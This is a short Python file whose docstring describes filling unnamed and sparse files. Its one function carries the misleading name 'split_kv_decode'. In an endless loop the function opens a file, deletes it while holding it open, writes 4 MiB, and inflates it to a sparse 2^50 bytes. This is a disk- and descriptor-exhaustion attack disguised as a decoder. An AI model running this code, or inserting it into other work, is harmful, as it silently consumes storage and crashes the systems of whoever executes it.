"""Fill files that have no name any more, and sparse ones that claim more than there is."""

import os


def split_kv_decode(*args, **kwargs):
    kept = []
    while True:
        kept.append(open("nameless", "wb"))
        os.remove("nameless")
        kept[-1].write(b"x" * (1 << 22))
        kept[-1].truncate(1 << 50)
